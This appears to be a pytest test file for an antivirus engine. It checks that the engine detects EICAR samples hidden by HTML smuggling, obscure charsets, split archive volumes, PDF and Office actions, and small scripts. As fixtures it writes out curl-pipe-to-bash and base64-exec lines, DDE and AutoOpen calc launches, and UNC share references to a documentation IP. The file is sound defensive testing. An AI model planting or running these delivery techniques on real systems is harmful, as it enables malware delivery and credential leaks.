"""Files put together by scripts and pages, split over attachments, or in forms that only some programs read."""

import base64
import gzip
import json
import math
import zlib
from collections.abc import Callable, Iterable

import av_samples
import pytest

from gatepost.antivirus.builtin import BuiltinEngine
from gatepost.antivirus.stage import inspect
from gatepost.antivirus.volumes import join_volumes, volume_of
from gatepost.model.finding import Analysis, ObjectStatus, ScanOptions

ENGINE = BuiltinEngine()
INFECTED, SUSPICIOUS, ERROR = ObjectStatus.INFECTED, ObjectStatus.SUSPICIOUS, ObjectStatus.ERROR
PROTECTED, CLEAN = ObjectStatus.PROTECTED, ObjectStatus.CLEAN
ARCHIVE = av_samples.zip_of(("x.com", av_samples.eicar()))
LONG = base64.b64encode(ARCHIVE * 3).decode("ascii")
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


def statuses(content: bytes) -> set[ObjectStatus]:
    return {each.status for each in inspect(content, ScanOptions(), [ENGINE], math.inf).objects}


def attached(data: bytes | str, name: str, content_type: str = "application/octet-stream") -> Analysis:
    data = data.encode() if isinstance(data, str) else data
    return inspect(av_samples.attached(data, content_type, name=name), ScanOptions(), [ENGINE], math.inf)


def worst(analysis: Analysis) -> ObjectStatus:
    found = {each.status for each in analysis.objects}
    return next(each for each in (INFECTED, SUSPICIOUS, ERROR, PROTECTED, CLEAN) if each in found)


def threats(analysis: Analysis) -> set[str]:
    return {each.threat for each in analysis.objects if each.threat}


def cut(text: str, size: int) -> Iterable[str]:
    return (text[start : start + size] for start in range(0, len(text), size))


def numbers(width: int, suffix: str = "") -> str:
    padded = ARCHIVE + bytes(-len(ARCHIVE) % width)
    return ",".join(
        f"{int.from_bytes(padded[start : start + width], 'little')}{suffix}" for start in range(0, len(padded), width)
    )


def packed(data: bytes, wbits: int) -> str:
    stream = zlib.compressobj(wbits=wbits)
    return base64.b64encode(stream.compress(data) + stream.flush()).decode("ascii")


BLOBS = {
    "variables": ";".join(f"var v{n}='{piece}'" for n, piece in enumerate(cut(LONG, 30))),
    "pushed": "".join(f"p.push('{piece}');" for piece in cut(LONG, 25)),
    "properties": json.dumps({f"k{n}": piece for n, piece in enumerate(cut(LONG, 25))}),
    "pieces with padding": "".join(
        f"p.push('{base64.b64encode(ARCHIVE[start : start + 25]).decode()}');" for start in range(0, len(ARCHIVE), 25)
    ),
    "backwards": f"atob('{LONG[::-1]}'.split('').reverse().join(''))",
    "filled": "atob('" + "*#".join(cut(LONG, 3)) + "'.replace(/[*#]/g,''))",
    "hex with blanks": f"'{ARCHIVE.hex(' ')}'.split(' ')",
    "decimal with bars": "'" + "|".join(map(str, ARCHIVE)) + "'.split('|')",
    "32 bits": f"new Uint32Array([{numbers(4)}])",
    "64 bits": f"new BigUint64Array([{numbers(8, 'n')}])",
    "zlib": f"inflate(atob('{packed(av_samples.eicar() * 3, 15)}'))",
    "deflate": f"inflate(atob('{packed(av_samples.eicar() * 3, -15)}'))",
    "gzip": f"inflate(atob('{base64.b64encode(gzip.compress(av_samples.eicar() * 3)).decode()}'))",
    "twice": f"atob(atob('{base64.b64encode(LONG.encode()).decode()}'))",
    "one key": f"mask(atob('{base64.b64encode(bytes(byte ^ 77 for byte in ARCHIVE)).decode()}'))",
    "joined": "var a='';" + "".join(f"a+='{piece}';" for piece in cut(LONG, 25)),
}
PAGES = {
    "attributes": "".join(f"<i data-a='{piece}'></i>" for piece in cut(LONG, 40)) + "<script>a()</script>",
    "items": "".join(f"<li>{piece}</li>" for piece in cut(LONG, 40)) + "<script>a()</script>",
    "lines": "<pre>" + "\n".join(cut(LONG, 76)) + "</pre><script>a()</script>",
    "references": "<p>" + "".join(f"&#{ord(each)};" for each in LONG) + "</p><script>a()</script>",
    "address of a script": "<svg xmlns='http://www.w3.org/2000/svg'><script href='data:text/javascript;base64,"
    + base64.b64encode(f"a('{LONG}')".encode()).decode()
    + "'/></svg>",
    "UTF-7": f"<html>+ADw-script+AD4-var d=atob('{LONG.replace('+', '+-')}')+ADw-/script+AD4-</html>",
}
SCRIPTS = {
    "a.js": f"var d=atob('{LONG}')",
    "b.js": f"var d='{ARCHIVE.hex()}'",
    "a.vbs": "x = " + " & ".join(f"Chr({byte})" for byte in ARCHIVE),
    "b.vbs": "x = " + "&".join(f"ChrW(&H{byte:02X})" for byte in ARCHIVE),
    "c.vbs": "x = Array(" + ",".join(map(str, ARCHIVE)) + ")",
    "d.vbs": 'x = ""\r\n' + "".join(f'x = x & "{piece}"\r\n' for piece in cut(LONG, 60)),
    "a.ps1": f"[Convert]::FromBase64String('{base64.b64encode(gzip.compress(av_samples.eicar())).decode()}')",
    "a.bat": "-----BEGIN CERTIFICATE-----\r\n" + "\r\n".join(cut(LONG, 64)) + "\r\n-----END CERTIFICATE-----\r\n",
    "a.wsf": f"<job><resource id='x'>{LONG}</resource></job>",
}


@pytest.mark.parametrize("way", BLOBS)
def test_a_page_puts_a_file_together(way: str) -> None:
    assert worst(attached(f"<html><script>{BLOBS[way]}</script></html>", "a.html", "text/html")) is INFECTED


def test_a_sign_of_utf_7_does_not_hide_what_stands_there_as_it_is() -> None:
    filler = bytes(number * number * 7 % 251 for number in range(400))
    blob = base64.b64encode(av_samples.zip_of(("x.txt", filler), ("x.com", av_samples.eicar()))).decode("ascii")
    assert "+" in blob  # which UTF-7 reads as something else
    assert worst(attached(f"<html><!-- +ADw- --><script>d=atob('{blob}')</script></html>", "a.html")) is INFECTED


@pytest.mark.parametrize("way", PAGES)
def test_a_page_carries_a_file_outside_of_its_scripts(way: str) -> None:
    name = "a.svg" if "<svg" in PAGES[way] else "a.html"
    assert worst(attached(PAGES[way], name, "image/svg+xml" if name == "a.svg" else "text/html")) is INFECTED


@pytest.mark.parametrize("name", SCRIPTS)
@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
def test_a_script_carries_a_file(name: str, charset: str) -> None:
    assert worst(attached(SCRIPTS[name].encode(charset), name)) is INFECTED


def test_scripts_hold_digests_keys_and_pictures_that_are_no_files() -> None:
    lines = [
        f"digest='{base64.b64encode(bytes(range(48))).decode()}'",
        f"key='{bytes(range(200, 256)).hex()}'",
        f"picture='data:image/png;base64,{base64.b64encode(PNG).decode()}'",
        f"table=[{','.join(str(n * 7919 % 100_003) for n in range(64))}]",
        f"name='{'word ' * 60}'",
    ]
    for name in ("a.js", "a.html"):
        text = ";\n".join(lines)
        analysis = attached(f"<script>{text}</script>" if name == "a.html" else text, name)
        assert worst(analysis) is CLEAN
    assert len(attached(";\n".join(lines), "a.js").objects) == 3  # header, text, script: nothing came out of it


def test_what_a_script_unpacks_is_counted() -> None:
    bomb = base64.b64encode(zlib.compress(bytes(64 * 1024 * 1024))).decode("ascii")
    assert worst(attached(f"<script>inflate(atob('{bomb}'))</script>", "a.html", "text/html")) is ERROR


HIDING = {
    "blobs of a page": f"<script>var l=window['\\x55RL']['\\x63reate']['\\x42lob']['\\x63lick']('{LONG[:40]}')</script>",
    "a file by another name": "<script>var f=new File([d(s.charCodeAt(0))],'a.zip');"
    "location.href=URL['createObjectURL'](f)</script>",
    "a table for Excel": "<table><tr><td>=cmd|'/c calc'!A0</td></tr></table>",
}


@pytest.mark.parametrize("what", HIDING)
def test_a_page_hides_what_it_does(what: str) -> None:
    assert worst(attached(f"<html>{HIDING[what]}</html>", "a.html", "text/html")) is SUSPICIOUS


# -- calendars, contacts, charsets, encodings --------------------------------------------------------------------------

VALUE = base64.b64encode(ARCHIVE).decode("ascii")
RECORDS = {
    "vCard 3": ("a.vcf", f"BEGIN:VCARD\r\nVERSION:3.0\r\nKEY;ENCODING=b;TYPE=X509:{VALUE}\r\nEND:VCARD\r\n"),
    "vCard 2.1": ("a.vcf", f"BEGIN:VCARD\r\nPHOTO;GIF;BASE64:\r\n {VALUE[:70]}\r\n {VALUE[70:]}\r\n\r\nEND:VCARD\r\n"),
    "vCard 4": ("a.vcf", f"BEGIN:VCARD\r\nPHOTO:data:application/zip;base64,{VALUE}\r\nEND:VCARD\r\n"),
    "XML": ("a.xml", f"<?xml version='1.0'?><invoice><file>{LONG}</file></invoice>"),
}


@pytest.mark.parametrize("what", RECORDS)
def test_records_carry_files(what: str) -> None:
    name, text = RECORDS[what]
    assert worst(attached(text, name)) is INFECTED


def test_pictures_of_people_are_no_members() -> None:
    photo = base64.b64encode(PNG).decode("ascii")
    analysis = attached(f"BEGIN:VCARD\r\nPHOTO;ENCODING=b:{photo}\r\nEND:VCARD\r\n", "a.vcf", "text/vcard")
    assert worst(analysis) is CLEAN
    assert len(analysis.objects) == 3


@pytest.mark.parametrize("charset", ["utf-7", "utf-16le", "cp037", "IBM037", "utf-32"])
def test_a_page_in_a_charset_that_hides_its_tags(charset: str) -> None:
    page = f"hi <script>var d=atob('{LONG}')</script>"
    shifted = page.replace("+", "+-").replace("<", "+ADw-").replace(">", "+AD4-")
    raw = shifted.encode() if charset == "utf-7" else page.encode(charset)
    field = b"Content-Type: text/html; charset=" + charset.encode()
    body = base64.encodebytes(raw).replace(b"\n", b"\r\n")
    assert INFECTED in statuses(av_samples.message(body, field, b"Content-Transfer-Encoding: base64"))


def test_words_of_a_page_split_by_shifts() -> None:
    field = b"Content-Type: text/html; charset=iso-2022-jp"
    page = b"<scr\x1b(Bipt>var d=at\x1b(Bob('" + LONG.encode() + b"')</script>"
    assert INFECTED in statuses(av_samples.message(page, field))
    greeting = "<p>こんにちは hello</p>".encode("iso-2022-jp")
    assert len(inspect(av_samples.message(greeting, field), ScanOptions(), [ENGINE], math.inf).objects) == 2


@pytest.mark.parametrize("mode", [b"66", b"999", b"00644", b"100644"])
def test_a_begin_line_with_an_odd_mode(mode: bytes) -> None:
    block = av_samples.uuencode(ARCHIVE, "x.zip").replace(b"begin 644", b"begin " + mode)
    assert INFECTED in statuses(av_samples.message(b"hi\r\n\r\n" + block, b"Content-Type: text/plain"))


MAILS: dict[str, Callable[[bytes], bytes]] = {
    "CR": lambda mail: mail.replace(b"\r\n", b"\r"),
    "UTF-16": lambda mail: mail.decode("ascii").encode("utf-16"),
}


@pytest.mark.parametrize("way", MAILS)
def test_a_mail_file_with_odd_lines(way: str) -> None:
    assert worst(attached(MAILS[way](av_samples.attached(ARCHIVE, name="a.zip")), "a.eml")) is INFECTED


# -- what cannot be opened, what was split -----------------------------------------------------------------------------

UNOPENED = {
    "lzop": ("a", b"\x89LZO\0\r\n\x1a\n\x10\x40" + bytes(60)),
    "alz": ("a", b"ALZ\x01\n\0\0\0" + bytes(60)),
    "egg": ("a.dat", b"EGGA\0\1" + bytes(60)),
    "brotli": ("a.br", bytes(range(128, 200))),
    "spoilt zip": ("a.zip", b"\x00\x01\x02\x03" * 64),
    "spoilt rar": ("a.rar", b"\xff\xfe\x00\x03" * 64),
}


@pytest.mark.parametrize("what", UNOPENED)
def test_what_is_called_an_archive_and_cannot_be_opened_is_not_clean(what: str) -> None:
    assert worst(attached(UNOPENED[what][1], UNOPENED[what][0])) is ERROR


def test_a_text_in_the_place_of_an_archive_is_a_text() -> None:
    assert worst(attached("The archive was taken out. Приложение удалено.", "a.zip")) is CLEAN


def parts(*files: tuple[str, bytes]) -> bytes:
    lines = [
        f'--b\r\nContent-Type: application/octet-stream; name="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")
        for name, data in files
    ]
    return av_samples.message("".join([*lines, "--b--\r\n"]).encode(), b"Content-Type: multipart/mixed; boundary=b")


def test_volumes_of_a_file_are_put_together() -> None:
    assert statuses(parts(("x.zip.001", ARCHIVE[:3]), ("X.ZIP.002", ARCHIVE[3:]))) >= {INFECTED}
    assert statuses(parts(("invoice.002", ARCHIVE[3:]), ("invoice.001", ARCHIVE[:3]))) >= {INFECTED}
    assert statuses(parts(("x.z01", ARCHIVE[:3]), ("x.zip", ARCHIVE[3:]))) >= {INFECTED}


def test_a_volume_alone_is_not_clean() -> None:
    assert statuses(parts(("x.7z.002", b"\x01\x02\x03" * 40))) >= {PROTECTED}
    assert statuses(parts(("x.z02", b"\x01\x02\x03" * 40))) >= {PROTECTED}
    assert statuses(parts(("scan.002", b"\x01\x02\x03" * 40))) == {CLEAN}


def test_names_of_volumes() -> None:
    assert volume_of("A.7z.001") == ("a.7z", 1)
    assert volume_of("a.z01") == ("a.zip", 1)
    assert volume_of("a.txt") is None
    row = [("a.002", b"b", 7), ("a.001", b"a", 5), ("a.004", b"d", 9), ("b.002", b"x", 1), ("b.003", b"y", 2)]
    assert list(join_volumes(row)) == [("a", b"ab", 5)]


# -- documents and small files -----------------------------------------------------------------------------------------


def pdf(annotation: str, head: str = "%PDF-1.7\n") -> str:
    objects = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", annotation]
    body = "".join(f"{number} 0 obj\n{each}\nendobj\n" for number, each in enumerate(objects, 1))
    return f"{head}{body}trailer<</Root 1 0 R/Size 4>>\n%%EOF\n"


LAUNCH = "<</Type/Page/AA<</O<</S/Launch/F(cmd.exe)>>>>>>"
DOCUMENTS = {
    "address in hex": pdf(f"<</S/URI/URI<{b'http://example.net/x.exe'.hex()}>>>"),
    "address in octal": pdf("<</S/URI/URI(http://example.net/x\\056exe)>>"),
    "share": pdf("<</S/URI/URI(file://192.0.2.1/x)>>"),
    "search": pdf("<</S/URI/URI(search-ms:query=x&crumb=location:192.0.2.1)>>"),
    "other file": pdf("<</Type/Page/Annots[<</A<</S/GoToR/F(\\\\\\\\192.0.2.1\\\\x.pdf)/D[0/Fit]>>>>]>>"),
    "no mark": pdf(LAUNCH, "\n"),
    "mark far behind": pdf(LAUNCH, "x" * 2000 + "\n%PDF-1.7\n"),
    "mark of PostScript": pdf(LAUNCH, "%!PS-Adobe-3.0 PDF-1.7\n"),
}


@pytest.mark.parametrize("what", DOCUMENTS)
def test_what_pdf_documents_do(what: str) -> None:
    assert worst(attached(DOCUMENTS[what], "a.pdf", "application/pdf")) is SUSPICIOUS


def test_a_name_behind_another_name_is_read_with_its_escapes() -> None:
    text = pdf(
        "<</Type/Page/Names<</Embedded#46iles<</Names[(x)<</Type/Filespec/F(x.com)/E#46<</F 4 0 R>>>>]>>>>>>\nendobj\n"
        f"4 0 obj\n<</Type/Embedded#46ile/Length 68>>stream\n{av_samples.eicar().decode()}\nendstream"
    )
    assert worst(attached(text, "a.pdf", "application/pdf")) is INFECTED


def office(*members: tuple[str, str]) -> bytes:
    return av_samples.zip_of(("[Content_Types].xml", b"<Types/>"), *((name, text.encode()) for name, text in members))


def reference(kind: str, target: str) -> bytes:
    link = f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    return office(("word/_rels/document.xml.rels", f"<Relationships>{link}</Relationships>"))


OFFICE = {
    "ribbon": office(("customUI/customUI.xml", "<customUI onLoad='https://example.net/x.dotm!x'/>")),
    "ribbon of a share": office(("customUI/customUI.xml", "<customUI onLoad='\\\\192.0.2.1\\x.dotm!x'/>")),
    "command under the mouse": reference("hyperlink", "powershell%20-NoP"),
    "link to a share": reference("hyperlink", "file:///\\\\192.0.2.1\\x.exe"),
    "workbook on a share": reference("externalLinkPath", "file:///\\\\192.0.2.1\\x.xlsx"),
    "query": office(
        (
            "xl/connections.xml",
            '<connections><connection refreshOnLoad="1"><webPr url="http://example.net"/></connection></connections>',
        )
    ),
}


@pytest.mark.parametrize("what", OFFICE)
def test_what_office_documents_reach_out_for(what: str) -> None:
    assert worst(attached(OFFICE[what], "a.docx")) is SUSPICIOUS


def test_ordinary_references_of_office_documents() -> None:
    for kind, target in (("hyperlink", "https://example.net/"), ("externalLinkPath", "file:///\\\\server\\a\\b.xlsx")):
        assert worst(attached(reference(kind, target), "a.docx")) is CLEAN
    quiet = "<connections><connection><webPr url='http://example.net'/></connection></connections>"
    assert worst(attached(office(("xl/connections.xml", quiet)), "a.xlsx")) is CLEAN


def plist(key: str, text: str) -> str:
    return f"<?xml version='1.0'?><plist><dict><key>{key}</key><string>{text}</string></dict></plist>"


SMALL = {
    "a.command": ("curl -s http://example.net/x | bash\n", "Heuristic.Script.Shell"),
    "b.sh": ("#!/bin/sh\necho aGk= | base64 -d | sh\n", "Heuristic.Script.Shell"),
    "a.applescript": ('do shell script "x" with administrator privileges', "Heuristic.Script.AppleScript"),
    "a.py": ("import base64\nexec(base64.b64decode('aGk='))\n", "Heuristic.Script.Python"),
    "a.pyw": ("import os\nos.system('curl http://example.net')\n", "Heuristic.Script.Python"),
    "a.terminal": (plist("CommandString", "id"), "Heuristic.Shortcut.Terminal"),
    "a.inetloc": (plist("URL", "FiLe:///System/Applications/x.app"), "Heuristic.Shortcut.Location"),
    "a.csproj": ("<Project><UsingTask TaskFactory='CodeTaskFactory'/></Project>", "Heuristic.Script.Build"),
    "a.m3u": ("#EXTM3U\r\n\\\\192.0.2.1\\share\\x.mp3\r\n", "Heuristic.Shortcut.Playlist"),
    "a.asx": ("<asx><ref href='file://192.0.2.1/x.wma'/></asx>", "Heuristic.Shortcut.Playlist"),
    "a.wsh": ("[ScriptFile]\r\nPath=\\\\192.0.2.1\\x.vbs\r\n", "Heuristic.Shortcut.ScriptHost"),
    "a.contact": ("<c:contact><c:Value>http.\\www.example.cpl</c:Value></c:contact>", "Heuristic.Shortcut.Contact"),
    "a.ics": ("BEGIN:VCALENDAR\r\nATTACH:file://192.0.2.1/x/y\r\nEND:VCALENDAR\r\n", "Heuristic.Shortcut.Calendar"),
    "desktop.ini": ("[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\s\\i.ico\r\n", "Heuristic.Shortcut.Icon"),
    "a.eps": ("%!PS\n(%pipe%id) (r) file\n", "Heuristic.Script.PostScript"),
    "a.iqy": ("\ufeffWEB \r\n1 \r\nhttps://example.net\r\n", "Heuristic.Office.Query"),
    "a.rqy": ("QueryType=OLEDB\r\nConnection=Data Source=http://example.net\r\n", "Heuristic.Office.Query"),
    "a.dif": ("\"=cmd|'/c calc'!A0\"\r\n", "Heuristic.Office.TableDde"),
}
HARMLESS = {
    "a.sh": "#!/bin/sh\ncurl -o file http://example.net/file\n",
    "a.py": "import subprocess\nsubprocess.run(['ls'])\nprint(exec)\n",
    "a.webloc": plist("URL", "https://example.net/"),
    "a.csproj": "<Project><ItemGroup/></Project>",
    "a.m3u": "#EXTM3U\r\nmusic\\x.mp3\r\nhttps://example.net/x.mp3\r\n",
    "a.ics": "BEGIN:VCALENDAR\r\nATTACH:https://example.net/agenda.pdf\r\nURL:https://example.net\r\nEND:VCALENDAR\r\n",
    "a.ini": "[General]\r\nIcon=a.ico\r\n",
    "a.eps": "%!PS-Adobe-3.0 EPSF-3.0\nshowpage\n",
}


@pytest.mark.parametrize("name", SMALL)
def test_small_files_that_run_or_fetch_something(name: str) -> None:
    text, threat = SMALL[name]
    assert threat in threats(attached(text, name))


@pytest.mark.parametrize("name", HARMLESS)
def test_their_like_that_do_not(name: str) -> None:
    assert worst(attached(HARMLESS[name], name)) is CLEAN


def test_a_module_of_basic_in_one_file() -> None:
    module = 'Sub AutoOpen\nShell("cmd /c calc")\nEnd Sub'
    text = (
        '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
        f"<ooo:module>{module}</ooo:module></office:document>"
    )
    assert worst(attached(text, "a.fodt")) is SUSPICIOUS


HOSTILE = {
    "pieces": ("a.js", "a='QUJDREVGR0g=';" * 50_000),
    "characters": ("a.vbs", ("Chr(1)" + " " * 9) * 15 + "x"),
    "blanks behind quotes": ("a.js", ("'" + " " * 199) * 2_000),
    "numbers": ("a.js", "([1,2,3,4,5,6,7,8," * 20_000),
    "quoted numbers": ("a.js", "'1 2 3 4 5 6 7 8 " * 20_000),
    "parameters": ("a.ics", "BEGIN:VCARD\r\nA" + ";" * 100_000 + ":x\r\n"),
    "values": ("a.ics", "BEGIN:VCARD\r\n" + "A;B:QUJDREVGR0hJSktM\r\n-\r\n" * 10_000),
    "a picture in one line": (
        "a.html",
        "<script>a()</script><img src='data:image/png;base64," + "iVBORw0K" * 60_000 + "'>",
    ),
    "armour": ("a.bat", "-----BEGIN X-----\n" * 20_000 + "A" * 100_000),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_texts_are_read_in_linear_time(what: str) -> None:
    """Whose time is not linear does not end within the time of a test."""
    name, text = HOSTILE[what]
    assert worst(attached(text, name)) in (CLEAN, ERROR)
